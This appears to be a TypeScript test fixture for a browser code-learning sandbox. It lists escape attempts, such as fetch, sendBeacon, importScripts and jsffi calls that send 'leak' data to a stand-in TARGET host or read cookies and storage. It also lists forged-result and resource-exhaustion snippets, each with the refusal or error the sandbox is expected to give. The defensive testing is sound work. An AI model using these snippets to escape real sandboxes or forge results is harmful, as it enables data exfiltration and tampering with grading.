import type { Language } from '../src/labs/check.ts';
import type { RunResult } from '../src/labs/sandbox/runner.ts';

type Result = Omit<RunResult, 'times'>;

export interface Attack {
  readonly name: string;
  readonly code: string;
  /** What the worker may say of it. */
  readonly gives: RegExp;
}

const REFUSED = /^refused|^gave nothing came back$/;

/** Ways out that a worker has in a browser. TARGET is a server that lets everybody in. */
export const ESCAPES: readonly Attack[] = [
  { name: 'fetch', code: `return (await fetch('http://TARGET/')).text()`, gives: REFUSED },
  {
    name: 'fetch without CORS',
    code: `await fetch('http://TARGET/', { mode: 'no-cors' })`,
    gives: REFUSED,
  },
  {
    name: 'XMLHttpRequest',
    code: `const x = new XMLHttpRequest(); x.open('GET', 'http://TARGET/', false); x.send(); return x.response`,
    gives: REFUSED,
  },
  {
    name: 'WebSocket',
    code: `return await new Promise((open, fail) => { const s = new WebSocket('ws://TARGET/'); s.onopen = open; s.onerror = () => fail('error') })`,
    gives: REFUSED,
  },
  {
    name: 'EventSource',
    code: `return await new Promise((open, fail) => { const s = new EventSource('http://TARGET/'); s.onopen = open; s.onerror = () => fail('error') })`,
    gives: REFUSED,
  },
  {
    name: 'WebTransport',
    code: `await new WebTransport('https://TARGET/').ready; return 'ready'`,
    gives: REFUSED,
  },
  {
    name: 'sendBeacon',
    code: `return navigator.sendBeacon('http://TARGET/', 'leak')`,
    gives: REFUSED,
  },
  {
    name: 'importScripts',
    code: `importScripts('http://TARGET/leak.js'); return 'loaded'`,
    gives: REFUSED,
  },
  {
    name: 'importScripts of data',
    code: `importScripts('data:text/javascript,1'); return 'loaded'`,
    gives: REFUSED,
  },
  {
    name: 'import()',
    code: `await import('http://TARGET/leak.js'); return 'loaded'`,
    gives: REFUSED,
  },
  { name: 'eval', code: `return eval('1 + 1')`, gives: REFUSED },
  { name: 'Function', code: `return Function('return 2')()`, gives: REFUSED },
  {
    name: 'a worker from elsewhere',
    code: `return await new Promise((ok, fail) => { const w = new Worker('http://TARGET/leak.js'); w.onmessage = ok; w.onerror = () => fail('error') })`,
    gives: REFUSED,
  },
  {
    name: 'the network from a worker of its own',
    code: `const text = "fetch('http://TARGET/').then(() => postMessage('got'), () => postMessage('refused'))";
      const w = new Worker(URL.createObjectURL(new Blob([text])));
      return await new Promise((ok, fail) => { w.onmessage = ({ data }) => data === 'got' ? ok('got') : fail(data); w.onerror = () => fail('error') })`,
    gives: REFUSED,
  },
  {
    name: 'indexedDB',
    code: `return await new Promise((ok, fail) => { const r = indexedDB.open('x'); r.onsuccess = () => ok('opened'); r.onerror = () => fail('error') })`,
    gives: REFUSED,
  },
  { name: 'caches', code: `await caches.open('x'); return 'opened'`, gives: REFUSED },
  { name: 'localStorage', code: `return localStorage.length`, gives: REFUSED },
  { name: 'cookies', code: `return await cookieStore.getAll()`, gives: REFUSED },
  {
    name: 'files of the site',
    code: `return await navigator.storage.getDirectory()`,
    gives: REFUSED,
  },
  {
    name: 'BroadcastChannel to the page',
    code: `new BroadcastChannel('surprisal').postMessage('leak'); return 'nobody hears'`,
    gives: /^gave nobody hears$|^refused/,
  },
];

export interface Forgery {
  readonly name: string;
  readonly language: Language;
  readonly code: string;
  readonly gives?: Result;
  /** How the run may have been stopped; undefined where it may also end by itself. */
  readonly stopped?: readonly (string | undefined)[];
}

const honest = (value: number): Result => ({ output: '', outcomes: [{ ok: true, value }] });
const late = ['time', 'memory'];
const js = (name: string, code: string, rest: Partial<Forgery> = {}): Forgery => ({
  name,
  language: 'javascript',
  code,
  ...rest,
});
const py = (name: string, code: string, rest: Partial<Forgery> = {}): Forgery => ({
  name,
  language: 'python',
  code,
  ...rest,
});
const DOUBLE = 'function f(x) { return 2 * x; }';

/** What a learner's code may try, with `f(2)` called afterwards, and what the page must hear. */
export const FORGERIES: readonly Forgery[] = [
  js('an endless loop', 'for (;;);', { stopped: late }),
  js('an endless loop in a function', 'function f() { for (;;); }', { stopped: late }),
  js('endless promises', `(function go() { return Promise.resolve().then(go); })(); ${DOUBLE}`, {
    gives: honest(4),
  }),
  js('a getter without end', 'function f() { return { get a() { for (;;); } }; }', {
    stopped: late,
  }),
  js(
    'an iterator without end',
    'function f() { return { *[Symbol.iterator]() { for (;;) yield 1; } }; }',
    {
      gives: {
        output: '',
        outcomes: [{ ok: false, error: 'TypeError: the result is too large to look at' }],
      },
    },
  ),
  js(
    'toJSON',
    `Object.prototype.toJSON = Array.prototype.toJSON = () => { for (;;); }; ${DOUBLE}`,
    { gives: honest(4) },
  ),
  js('toString without end', `function f() { throw { toString() { for (;;); } }; }`, {
    stopped: late,
  }),
  js(
    'a regular expression without end',
    `function f() { return /^(a+)+$/.test('a'.repeat(60) + 'b'); }`,
    { stopped: late },
  ),
  js('an array of 10 GB', `new Float64Array(1.25e9); ${DOUBLE}`, {
    gives: {
      output: '',
      outcomes: [],
      error: { message: 'RangeError: Array buffer allocation failed', line: 1 },
    },
  }),
  js('an impossible array', `new Array(1e10); ${DOUBLE}`, {
    gives: {
      output: '',
      outcomes: [],
      error: { message: 'RangeError: Invalid array length', line: 1 },
    },
  }),
  js(
    'typed arrays without end',
    `const a = []; for (;;) a.push(new Uint8Array(2 ** 28).fill(1));`,
    {
      gives: {
        output: '',
        outcomes: [],
        error: { message: 'RangeError: Array buffer allocation failed', line: 1 },
      },
    },
  ),
  js('arrays without end', 'const a = []; for (;;) a.push(new Array(1e6).fill(0.5));', {
    stopped: late,
  }),
  js('a string doubled without end', `let s = 'x'; for (;;) s += s;`, {
    gives: {
      output: '',
      outcomes: [],
      error: { message: 'RangeError: Invalid string length', line: 1 },
    },
  }),
  js('output without end', `for (;;) console.log('line');`, { stopped: ['output'] }),
  js('a flood of messages', `for (;;) postMessage({ kind: 'output', text: 'x' });`, {
    gives: {
      output: '',
      outcomes: [],
      error: { message: 'ReferenceError: postMessage is not defined', line: 1 },
    },
  }),
  js(
    'a flood through the prototype',
    `for (let o = self; o; o = Object.getPrototypeOf(o)) o.postMessage?.({ kind: 'done' }); ${DOUBLE}`,
    { gives: honest(4) },
  ),
  js(
    'a message that says it has passed',
    `try { self.postMessage({ kind: 'outcome', text: '{"ok":true,"value":9}' }); } catch {} ${DOUBLE}`,
    { gives: honest(4) },
  ),
  js(
    'a false event',
    `try { dispatchEvent(new MessageEvent('message', { data: {} })); } catch {} ${DOUBLE}`,
    { gives: honest(4) },
  ),
  js('a worker of its own', `new Worker('data:,'); ${DOUBLE}`, {
    gives: {
      output: '',
      outcomes: [],
      error: { message: 'ReferenceError: Worker is not defined', line: 1 },
    },
  }),
  js('close()', `try { close(); } catch {} ${DOUBLE}`, { gives: honest(4) }),
  js(
    'changed built-ins',
    `
    JSON.stringify = () => '{"ok":true,"value":9}'; JSON.parse = () => [];
    Array.isArray = () => true; Object.keys = () => ['ok']; Reflect.apply = () => 9; Object.is = () => true;
    String.prototype.slice = () => 'fake'; Function.prototype.call = Function.prototype.apply = () => 9;
    Array.prototype[Symbol.iterator] = function* () {}; Array.prototype.map = () => [];
    Map.prototype.get = () => 9; Promise.prototype.then = () => 9; ${DOUBLE}`,
    { gives: honest(4) },
  ),
  js(
    'a changed Object.prototype',
    `
    const trap = Object.assign(Object.create(null), { get: () => 9, set() {}, configurable: true });
    for (const name of ['outcome', 'value', 'ok', 'kind', 'text', 'error', 'missing', 'get', 'set', 'stack'])
      Object.defineProperty(Object.prototype, name, trap);
    for (const place of ['0', '1']) Object.defineProperty(Array.prototype, place, trap);
    ${DOUBLE}`,
    { gives: honest(4) },
  ),
  js(
    'Error.prepareStackTrace',
    `Error.prepareStackTrace = () => { throw 1; }; function f() { null.x; }`,
    {
      gives: {
        output: '',
        outcomes: [{ ok: false, error: "TypeError: Cannot read properties of null (reading 'x')" }],
      },
    },
  ),
  js('what cannot be put into words', `function f() { throw Object.create(null); }`, {
    gives: {
      output: '',
      outcomes: [{ ok: false, error: 'something was thrown that has no text' }],
    },
  }),

  py('an endless loop', 'while True: pass', { stopped: late }),
  py(
    'an endless comprehension',
    'def count():\n  while True: yield 1\ndef f(x): return sum(1 for _ in count())',
    {
      stopped: late,
    },
  ),
  py('memory without end', 'a = []\nwhile True: a.append(bytearray(1000000))', {}),
  py('a number of 10 GB', 'a = bytearray(10 ** 10)', {
    gives: {
      output: '',
      outcomes: [],
      error: { message: 'OverflowError: overflow converting long int to machine word', line: 1 },
    },
  }),
  py('a result without end', 'def f(x):\n  while True: yield 1', { stopped: ['time', undefined] }),
  py('output without end', 'while True: print("line")', { stopped: ['output'] }),
  py('the page through import js', 'import js\njs.fetch("http://TARGET/leak")', {}),
  py('evaluation through import js', 'import js\njs.eval("postMessage({kind:\'done\'})")', {}),
  py(
    'the page through jsffi',
    `import jsffi\na = jsffi.to_js([1])\na.constructor.constructor("return fetch('http://TARGET/leak')")()`,
    {},
  ),
  py('a proxy through jsffi', 'import jsffi\np = jsffi.create_proxy(print)\np(1)', {}),
  py('a file', 'open("leak", "w").write("x" * 100)', {
    gives: { output: '', outcomes: [], error: { message: 'OSError: 63', line: 1 } },
  }),
  py(
    'a changed namespace',
    'import __main__\n__main__._call = lambda *a: "9"\ndef f(x): return 2 * x',
    { gives: honest(4) },
  ),
  py('an exit', 'import sys\nsys.exit()', {}),
  py('a socket', 'import socket', {
    gives: {
      output: '',
      outcomes: [],
      error: { message: "ImportError: no module named 'socket'", line: 1 },
    },
  }),
];
